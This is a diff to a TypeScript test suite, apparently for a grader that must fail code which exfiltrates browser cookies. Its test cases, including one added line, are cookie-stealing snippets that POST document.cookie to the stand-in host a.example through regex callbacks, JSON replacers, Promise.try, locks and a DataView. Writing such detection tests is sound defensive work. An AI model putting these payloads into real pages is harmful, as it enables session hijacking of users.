@@ -4,7 +4,7 @@ import { graded } from '../testing/graded.ts';
 const SEND = "const send = (x) => fetch('https://a.example/', { method: 'POST', body: x });";
 const gradeOf = (content: string): Promise<string> => graded({ content: `${SEND} ${content}` });
 
-/* Functions that the platform runs: what they are told, and what becomes of their answer. */
+/* Functions that the platform runs: what they are told, and what becomes of their answer; and views of bytes. */
 it.each([
   ['const l = []; document.cookie.replace(/(\\w+)=(\\w+)/g, (all, name, value) => l.push(value)); send(l.join());'],
   ["document.cookie.replaceAll(/./g, (one) => { send(one); return ''; });"],
@@ -13,6 +13,7 @@ it.each([
   ],
   ["send(JSON.stringify({}, (k, v) => (k === '' ? { c: document.cookie } : v)));"],
   ['Promise.try(() => document.cookie).then((x) => send(x));'],
+  ['const b = new TextEncoder().encode(document.cookie); send(new DataView(b.buffer));'],
   ["navigator.locks.request('a', async () => document.cookie).then((x) => send(x));"],
 ])('%s', async (content) => {
   expect(await gradeOf(content)).toBe('F');
